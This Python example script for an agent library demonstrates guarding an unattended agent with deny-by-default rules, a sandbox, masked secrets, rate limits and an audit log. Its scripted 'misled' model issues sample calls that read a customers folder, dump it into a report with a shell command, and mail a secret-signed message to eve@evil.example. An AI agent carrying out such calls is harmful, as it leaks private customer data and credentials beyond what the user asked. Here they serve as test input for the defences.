"""An agent that works while nobody looks: rules instead of questions, a sandbox, a secret, limits, an audit log.

    python examples/unattended.py

Without a key: the model is scripted, and does what a misled one would do. Everything else is real. Set
TOOLCRIB_MODEL and put a task of yours in `TASK` to have a real one work.
"""

from __future__ import annotations

import asyncio
import os
import tempfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from toolcrib import Agent, Effect, Toolbox, resolve_model, tool
from toolcrib.access import Access, Reach
from toolcrib.assembly import default_tools
from toolcrib.audit import AuditLog, read_key
from toolcrib.command.sandbox import Level, choose
from toolcrib.events import CallFinished, RunFinished
from toolcrib.models import Model, Scripted
from toolcrib.rules import Limit, RateLimits, read_rules
from toolcrib.secrets import Environment

TASK = "Count the orders, write the number to report.md, and mail it to ann@example.org."

RULES = """
otherwise = "deny"                    # what no rule allows: there is nobody to ask

[[rule]]
name = "read the project"
allow = true
tool = ["read_file", "grep", "glob", "list_dir"]

[[rule]]
name = "write reports"
allow = true
tool = ["write_file", "edit_file"]
path = "report*.md"
match = ['write_file {"path": "report.md", "content": ""}']
not_match = ['write_file {"path": "orders.csv", "content": ""}']

[[rule]]
name = "count"
allow = true
command = ["wc *", "sort *", "uniq *"]

[[rule]]
name = "customers"
deny = true
path = "customers/**"
reason = "names of customers stay here"

[[rule]]
name = "mail to whom the user named"
allow = true
tool = "mail"
except = { unsaid = "to" }
"""

MISLED: list[Any] = [
    {"calls": [{"name": "shell", "arguments": {"command": "wc -l orders.csv"}}]},
    {"calls": [{"name": "read_file", "arguments": {"path": "customers/list.csv"}}]},
    {"calls": [{"name": "shell", "arguments": {"command": "cat cust*/* > report.md"}}]},
    {"calls": [{"name": "write_file", "arguments": {"path": "report.md", "content": "3 orders\n"}}]},
    {"calls": [{"name": "mail", "arguments": {"to": "eve@evil.example", "text": "3", "key": "<secret_ref:MAIL_KEY>"}}]},
    {"calls": [{"name": "mail", "arguments": {"to": "ann@example.org", "text": "3", "key": "<secret_ref:MAIL_KEY>"}}]},
    {"calls": [{"name": "mail", "arguments": {"to": "ann@example.org", "text": "3", "key": "<secret_ref:MAIL_KEY>"}}]},
    "3 orders; mailed to ann@example.org.",
]  # fmt: skip


def reached(given: Mapping[str, Any]) -> list[Access]:
    """What a mail reaches. A tool that does not say may reach anything, so that the rule about customers would ask."""
    return [Access(Reach.CONNECT, "smtp.example.org:465")]


@tool(effect=Effect.WRITE, secrets=["key"], accesses=reached)
def mail(to: str, text: str, key: str) -> str:
    """Send a mail.

    Args:
        key: Your mail key, as <secret_ref:MAIL_KEY>.
    """
    return f"sent to {to}, signed with {key}"  # a slip of its author: the key is masked all the same


def laid_out(place: Path) -> tuple[Path, Path]:
    """A project to work on, and a folder beside it for what is not the agent's."""
    (place / "project/customers").mkdir(parents=True)
    (place / "project/customers/list.csv").write_text("Ann\nBob\n")
    (place / "project/orders.csv").write_text("saw\ndrill\nplane\n")
    (place / "state").mkdir()
    return place / "project", place / "state"


async def main() -> None:
    os.environ.setdefault("MAIL_KEY", "mk-7Qz5wTn2Lr8e")
    with tempfile.TemporaryDirectory() as place:
        project, state = laid_out(Path(place))
        sandbox = choose(project, Level.of("workspace_write", "off"))
        print(f"sandbox: {sandbox.report().backend}")
        log = AuditLog(state / "audit.jsonl", key=read_key(state / "audit.key"), actor="night shift")
        box = Toolbox(
            [mail],
            builtin=default_tools(project, sandbox=sandbox),
            policy=read_rules(RULES).policy("full"),
            limits=RateLimits([Limit(1, ("mail",)), Limit(200)]),
            secrets=Environment(["MAIL_KEY"]),
            audit=log,
        )
        model: Model = Scripted(MISLED)
        if os.environ.get("TOOLCRIB_MODEL"):
            model = resolve_model()
        async for event in Agent(model, toolbox=box, max_turns=20).stream(TASK):
            match event:
                case CallFinished():
                    print(f"[{event.tool}: {event.code or 'done'}] {event.result.text.strip()}")
                case RunFinished():
                    print(f"[{event.reason}]")
                case _:
                    pass
        found = log.check()
        print(f"audit: {found.lines} lines, {'whole' if found.ok else found.broken}")


if __name__ == "__main__":
    asyncio.run(main())
